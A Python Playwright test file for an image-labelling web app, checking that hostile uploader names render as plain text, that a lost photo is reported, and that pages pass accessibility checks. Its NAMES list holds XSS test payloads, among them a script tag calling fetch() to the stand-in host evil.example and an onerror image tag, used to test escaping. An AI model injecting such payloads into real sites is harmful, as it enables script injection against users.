"""What the page shows: strangers' words as text, broken photos, and to whoever cannot see it."""

from collections.abc import Iterator

import pytest
from playwright.sync_api import Browser, BrowserContext, expect

from tests.labeled_workspace import CRANE, TENCH, add_candidate, labeled_workspace, picture
from tests.labeler_app.component import label, photo, press, problems, saved, see, sign_in, stored
from tests.labeler_app.conftest import Served, serve

pytestmark = pytest.mark.browser

NAMES = (
    "<img src='https://evil.example/1.png' onerror=alert(1)>",
    "</bdi></p><script>fetch('https://evil.example/2')</script>",
    "![x](https://evil.example/3.png) <style>@import 'https://evil.example/4'</style>",
    "\u202eevil\u2066 مصور فوتوغرافي",
    "endless" * 20_000,
)
SIZES = ((2400, 300), (40, 2000), (8, 8), (1600, 1200), (300, 200))


@pytest.fixture(scope="module")
def hostile(tmp_path_factory: pytest.TempPathFactory) -> Iterator[Served]:
    """A class of photos by strangers who mean harm, then one with a photo whose file is lost."""
    folder = tmp_path_factory.mktemp("hostile") / "workspace"
    workspace, store = labeled_workspace(folder, [])
    for number, (name, size) in enumerate(zip(NAMES, SIZES, strict=True)):
        content = picture(number, size)
        add_candidate(
            workspace,
            store,
            TENCH,
            number,
            number + 1,
            content=content,
            owner_name=name,
            title=name,
        )
    for number in range(5):
        add_candidate(workspace, store, CRANE, 100 + number, number + 1)
    lost = next(
        path for path in workspace.images.rglob("*.jpg") if path.read_bytes() == picture(102)
    )
    lost.unlink()
    yield from serve(workspace, store)


@pytest.mark.soak
def test_what_strangers_wrote_is_text_and_nothing_else(
    hostile: Served, window: BrowserContext, wrong: list[str]
) -> None:
    page = sign_in(window, hostile.address, "<b>ann</b>")
    see(page, "tench")
    for place, name in enumerate(NAMES, 1):
        owner = photo(page, place).locator(".owner bdi")
        expect(owner).to_contain_text(name[:60])
        assert len(owner.inner_text()) < 300
        box = photo(page, place).bounding_box()
        assert box is not None
        assert 300 < box["width"] < 500  # three side by side, whatever is in them
        assert box["height"] < 450
    expect(page.get_by_text("<b>ann</b>", exact=True)).to_be_visible()
    for link in page.locator(".genset a").all():
        assert str(link.get_attribute("href")).startswith(("https://", "http://"))
        assert "noopener" in str(link.get_attribute("rel"))
    # All fits the window: nothing is to be scrolled to.
    expect(page.get_by_role("button", name="Submit")).to_be_in_viewport(ratio=1)

    label(page, "tench", "IIIII")
    see(page, "crane")
    expect(photo(page, 3)).to_contain_text("This photo cannot be shown.")
    press(page, "Digit3", "KeyB", "KeyA", "Enter")
    saved(page, "10/10")
    assert stored(hostile.store, "<b>ann</b>")[CRANE] == "CCBCC"
    assert [each for each in wrong if "410" not in each] == []  # the lost one is answered 410


@pytest.mark.parametrize("scheme", ["light", "dark"])
@pytest.mark.soak
def test_whoever_cannot_see_it_is_told_all(served: Served, browser: Browser, scheme: str) -> None:
    # Reports on colours need the colours that this scheme brings.
    with browser.new_context(
        viewport={"width": 1440, "height": 900},
        color_scheme="dark" if scheme == "dark" else "light",
        bypass_csp=True,  # axe is put into the page as a script
    ) as window:
        page = sign_in(window, served.address, f"axe-{scheme}")
        see(page, "tench")
        press(page, "Digit1", "Shift+Digit2", "Digit3", "KeyU", "Digit4", "KeyB")
        found = problems(page, "answers")
        press(page, "KeyH")
        found += problems(page, "help")
        press(page, "KeyH", "Space")
        assert found + problems(page, "large") == []
        press(page, "Space")

        expect(page.get_by_role("group", name="Photo 2 of 5: Incorrect")).to_be_visible()
        expect(page.get_by_role("button", name="Photo 5: see it large")).to_be_visible()
        press(page, "Digit5")
        expect(page.locator("[aria-live=polite]")).to_have_text("Photo 5 correct. All decided.")
        press(page, "Enter")
        expect(page.locator("[aria-live=polite]")).to_contain_text("goldfish: small golden")
